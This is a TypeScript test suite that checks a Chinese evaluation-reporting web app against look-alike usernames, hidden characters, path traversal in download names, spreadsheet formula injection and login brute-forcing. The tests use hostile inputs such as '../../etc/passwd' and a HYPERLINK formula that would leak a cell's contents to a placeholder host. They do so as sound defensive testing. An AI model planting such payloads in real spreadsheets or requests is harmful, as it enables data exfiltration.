// Issue 16, item 8: look-alike usernames, hidden characters in names, existence leaks on password
// resets, text/plain bodies, RFC 5987 file names, absurd dates and negative figures, and a login
// delay that an attacker cannot turn into a permanent lockout of the real user.
import { describe, expect, it, beforeAll, afterAll } from 'vitest';
import { contentDisposition, rfc5987, safeFileName } from '../../src/server/download.js';
import { accountDelay, DEFAULT_LIMITS } from '../../src/server/throttle.js';
import { PASSWORD, securityEnv, type Client, type SecurityEnv } from './env.js';

let env: SecurityEnv;
let admin: Client;
let local: Client;
let filler: Client;

beforeAll(async () => {
  env = await securityEnv();
  admin = await env.login('p_admin');
  local = await env.login('p_localAdmin');
  filler = await env.login('p_filler');
});
afterAll(async () => {
  await env?.close();
});

const create = (c: Client, username: string, displayName = '测试用户') =>
  c.send('POST', '/api/admin/users', { username, displayName, password: 'Long-enough-pass-1', grants: [{ role: 'filler', unitId: env.targets.own.unitId }] });

describe('usernames and display names', () => {
  it('refuses look-alike usernames (full-width, superscript, dotted İ, Cyrillic) and treats case and width as one name', async () => {
    for (const name of ['ｗｕｇａｎｇ', 'ＡＤＭＩＮ', 'ᴬdmin', 'adminİ', 'аdmin', 'p_filler\u200b']) {
      const res = await create(admin, name);
      expect(res.statusCode, `${name}: ${res.body}`).toBe(400);
      expect(res.json()).toMatchObject({ message: expect.stringContaining('用户名') });
    }
    expect((await create(admin, 'P_FILLER')).statusCode).toBe(409);
    const ok = await create(admin, '张伟.wg');
    expect(ok.statusCode, ok.body).toBe(201);
    // typed in full width (a Chinese input method) it is still the same account
    const login = await env.app.inject({
      method: 'POST',
      url: '/api/login',
      payload: { username: 'ｐ＿ｆｉｌｌｅｒ', password: PASSWORD },
      remoteAddress: '10.8.0.1',
    });
    expect(login.statusCode, login.body).toBe(200);
  });

  it('refuses a display name with a lone U+202E or other hidden characters', async () => {
    for (const displayName of ['\u202e', '张三\u202e', 'a\u200fb', 'x\u0007']) {
      const res = await create(admin, `hidden${displayName.length}x${displayName.codePointAt(displayName.length - 1)}`, displayName);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({ message: expect.stringContaining('不可见') });
    }
  });
});

describe('no existence leaks', () => {
  it('answers 404 on GET, POST …/password and POST …/unlock for a user outside a unit admin’s scope', async () => {
    const outside = env.targets.sibling.userId;
    expect((await local.get(`/api/admin/users/${outside}`)).statusCode).toBe(404);
    expect((await local.send('POST', `/api/admin/users/${outside}/password`, { newPassword: 'Another-pass-123' })).statusCode).toBe(404);
    expect((await local.send('POST', `/api/admin/users/${outside}/unlock`)).statusCode).toBe(404);
    // a missing user answers the same
    expect((await local.send('POST', `/api/admin/users/999999/password`, { newPassword: 'Another-pass-123' })).statusCode).toBe(404);
  });
});

describe('bodies and downloads', () => {
  it('answers text/plain bodies with 415 instead of parsing them', async () => {
    const login = await env.app.inject({
      method: 'POST',
      url: '/api/login',
      headers: { 'content-type': 'text/plain' },
      payload: 'username=p_filler&password=x',
    });
    expect(login.statusCode).toBe(415);
    const put = await env.app.inject({
      method: 'PUT',
      url: `/api/evaluations/${env.targets.own.evaluationId}`,
      headers: { 'content-type': 'text/plain', 'x-csrf-token': filler.csrf },
      cookies: { jixiao_session: filler.cookie! },
      payload: '{"version":1}',
    });
    expect(put.statusCode).toBe(415);
  });

  it("percent-encodes ' ( ) * ! in filename* (RFC 5987)", async () => {
    expect(rfc5987("妇联'(1)*!.docx")).toBe('%E5%A6%87%E8%81%94%27%281%29%2A%21.docx');
    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
    const { reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections } = e;
    const saved = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
      version: e.version,
      content: { title: "O'Neil (试)", reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections },
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const res = await filler.get(`/api/evaluations/${env.targets.own.evaluationId}/report?format=docx`);
    expect(res.statusCode).toBe(200);
    const header = String(res.headers['content-disposition']);
    const star = /filename\*=UTF-8''(.*)$/.exec(header)![1]!;
    expect(star).toMatch(/^[A-Za-z0-9%\-._~]+$/);
  });
});

describe('download file names from user text', () => {
  const starName = (header: string) => decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec(header)![1]!);

  it('keeps no folder, Windows-refused character, direction override or leading dot, and keeps the extension', () => {
    expect(safeFileName('../../etc/passwd.xlsx')).toBe('_.._etc_passwd.xlsx');
    expect(safeFileName('..\\邵阳:妇联*?"<>|.xlsx')).toBe('_邵阳_妇联______.xlsx');
    expect(safeFileName('报告\u202excod.exe.docx')).toBe('报告xcod.exe.docx');
    expect(safeFileName('...')).toBe('download');
    expect(safeFileName(`${'很长的名字'.repeat(60)}.xlsx`)).toBe(`${'很长的名字'.repeat(24)}.xlsx`);
    expect(safeFileName('2022年度武冈市妇联汇总.xlsx')).toBe('2022年度武冈市妇联汇总.xlsx');
    const header = contentDisposition('attachment', 'a.xlsx', "1/2季度(上)'.xlsx");
    expect(header).toMatch(/filename\*=UTF-8''[A-Za-z0-9%\-._~]+$/);
    expect(starName(header)).toBe("1_2季度(上)'.xlsx");
  });

  it('names a dashboard export of a unit called "../邵阳/妇联(机关)" without a path and with ( ) encoded', async () => {
    const unit = await admin.send('POST', '/api/admin/units', {
      name: '../邵阳/妇联(机关)',
      code: 'DL1',
      type: '妇联',
      level: 'county',
      parentId: null,
      fromYear: 2022,
    });
    expect(unit.statusCode, unit.body).toBe(201);
    const id = (unit.json() as { id: string }).id;
    const res = await admin.get(`/api/dashboard/${id}/export?year=2022`);
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const header = String(res.headers['content-disposition']);
    expect(header).toMatch(/filename\*=UTF-8''[A-Za-z0-9%\-._~]+$/);
    expect(starName(header)).toBe('_邵阳_妇联(机关)2022年度汇总.xlsx');
  });
});

describe('spreadsheet exports of text that looks like a formula', () => {
  const LURE = '=HYPERLINK("http://x.example/?"&A1,"点我")';
  /** Every cell of every sheet: formulas as `=…`, text as it is. */
  async function cells(bytes: Buffer): Promise<{ formulas: string[]; texts: string[] }> {
    const { default: Excel } = await import('exceljs');
    const wb = new Excel.Workbook();
    await wb.xlsx.load(bytes as never);
    const out = { formulas: [] as string[], texts: [] as string[] };
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((c) => {
          const v = c.value as unknown;
          if (v && typeof v === 'object' && 'formula' in v) out.formulas.push(String((v as { formula: string }).formula));
          else if (typeof v === 'string') out.texts.push(v);
        }),
      ),
    );
    return out;
  }

  it('keeps a deviation reason and a unit name starting with = as text cells in the 自评表 and the dashboard', async () => {
    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & {
      version: number;
      indicators: Record<string, unknown>[];
    };
    const { title, reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections } = e;
    const lured = indicators.map((i, k) => (k === 0 ? { ...i, deviationReason: LURE } : i));
    const saved = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
      version: e.version,
      content: { title, reportDate, profile, budget, budgetLines, threePublic, indicators: lured, keyProjects, sections },
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const sheet = await cells((await filler.get(`/api/evaluations/${env.targets.own.evaluationId}/report?format=xlsx`)).rawPayload);
    expect(sheet.texts).toContain(LURE);
    expect(sheet.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);

    const unit = await admin.send('POST', '/api/admin/units', { name: LURE, code: 'FX1', type: '妇联', level: 'county', parentId: null, fromYear: 2022 });
    expect(unit.statusCode, unit.body).toBe(201);
    const board = await cells((await admin.get(`/api/dashboard/${(unit.json() as { id: string }).id}/export?year=2022`)).rawPayload);
    expect(board.texts.some((t) => t.includes(LURE))).toBe(true);
    expect(board.formulas.filter((f) => /HYPERLINK/i.test(f))).toEqual([]);
  });
});

describe('absurd figures', () => {
  it('refuses a report date of 9999-12-31, negative budgets and negative key-project counts with 400', async () => {
    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
    const { title, reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections } = e;
    const base = { title, reportDate, profile, budget, budgetLines, threePublic, indicators, keyProjects, sections };
    const save = (patch: Record<string, unknown>) =>
      filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, { version: e.version, content: { ...base, ...patch } });
    const figures = { opening: '0', income: '-5', expenditure: '10', closing: '0' };
    const cases = {
      date: await save({ reportDate: '9999-12-31' }),
      budget: await save({ budget: [{ budgetType: 'general', noActivity: false, rows: { total: figures } }] }),
      line: await save({ budgetLines: [{ key: 'total', label: '年度资金总额', initial: '-1', adjusted: null, executed: null }] }),
      project: await save({
        keyProjects: [{ code: 'neg', name: '负数项目', measure: '人数', unitOfMeasure: '人', target: '-100', actual: '5', funding: [], note: null }],
      }),
    };
    for (const [k, r] of Object.entries(cases)) expect(r.statusCode, `${k}: ${r.body}`).toBe(400);
    expect(cases.date.json()).toMatchObject({ message: expect.stringContaining('9999-12-31') });
    expect(cases.project.json()).toMatchObject({ message: expect.stringContaining('负数项目') });
  });
});

describe('numbers typed with a Chinese input method', () => {
  it('reads full-width digits, point and minus in an amount as the number (stored as ASCII), and leaves free text as typed', async () => {
    const e = (await filler.get(`/api/evaluations/${env.targets.own.evaluationId}`)).json() as Record<string, unknown> & { version: number };
    const { reportDate, profile, budget, threePublic, indicators, keyProjects, sections } = e;
    const content = (initial: string, executed: string | null) => ({
      title: '２０２２年度自评（１２３．４５）',
      reportDate,
      profile,
      budget,
      budgetLines: [{ key: 'total', label: '年度资金总额', initial, adjusted: null, executed }],
      threePublic,
      indicators,
      keyProjects,
      sections,
    });
    const res = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, {
      version: e.version,
      content: content('１２３．４５', '１００'),
    });
    expect(res.statusCode, res.body).toBe(200);
    const saved = res.json() as { title: string; budgetLines: { initial: string | null; executed: string | null }[] };
    expect(saved.budgetLines[0]).toMatchObject({ initial: '123.45', executed: '100' });
    expect(saved.title).toBe('２０２２年度自评（１２３．４５）');
    // still one number per field: a full-width comma or a unit is not part of it
    const bad = await filler.send('PUT', `/api/evaluations/${env.targets.own.evaluationId}`, { version: e.version + 1, content: content('１，２３４', null) });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ message: expect.stringContaining('budgetLines.0.initial') });
  });
});

describe('login delay, not lockout', () => {
  it('grows exponentially per account after the free failures and is capped', () => {
    const now = Date.now();
    const fails = (n: number) => Array.from({ length: n }, () => new Date(now));
    const L = { ...DEFAULT_LIMITS, perAccount: 5, baseDelayMs: 30_000, maxDelayMs: 900_000 };
    expect([4, 5, 6, 7, 8, 20].map((n) => accountDelay(fails(n), L, now))).toEqual([0, 30, 60, 120, 240, 900]);
    expect(accountDelay(fails(9), L, now + 481_000)).toBe(0); // waited it out
  });

  it('does not keep the real user out: its known address is exempt, and an admin can unlock', async () => {
    const id = await env.addUser('victim', 'filler', env.targets.own.unitId);
    const at = (ip: string, password: string) =>
      env.app.inject({ method: 'POST', url: '/api/login', payload: { username: 'victim', password }, remoteAddress: ip });
    expect((await at('10.1.1.1', PASSWORD)).statusCode).toBe(200); // the victim's usual address
    // an attacker guesses from a few addresses (under each address's own limit)
    for (let i = 0; i < 5; i++) expect((await at(`10.66.0.${i}`, 'wrong-guess')).statusCode).toBe(401);
    const held = await at('10.66.0.9', 'wrong-guess');
    expect(held.statusCode).toBe(429);
    expect(Number(held.headers['retry-after'])).toBeGreaterThanOrEqual(25);
    // from a new address even the right password waits …
    expect((await at('10.2.2.2', PASSWORD)).statusCode).toBe(429);
    // … but from the address it always uses, the real user signs in
    expect((await at('10.1.1.1', PASSWORD)).statusCode).toBe(200);
    // the attacker again, then an admin unlocks: the user signs in from anywhere
    for (let i = 0; i < 5; i++) await at(`10.67.0.${i}`, 'wrong-guess');
    expect((await at('10.3.3.3', PASSWORD)).statusCode).toBe(429);
    const unlock = await admin.send('POST', `/api/admin/users/${id}/unlock`);
    expect(unlock.statusCode, unlock.body).toBe(200);
    expect((await at('10.3.3.3', PASSWORD)).statusCode).toBe(200);
  });

  it('still limits one address across many accounts', async () => {
    let last = 0;
    for (let i = 0; i < 31; i++) {
      last = (await env.app.inject({ method: 'POST', url: '/api/login', payload: { username: `nobody${i}`, password: 'x' }, remoteAddress: '10.99.9.9' }))
        .statusCode;
    }
    expect(last).toBe(429);
  });
});
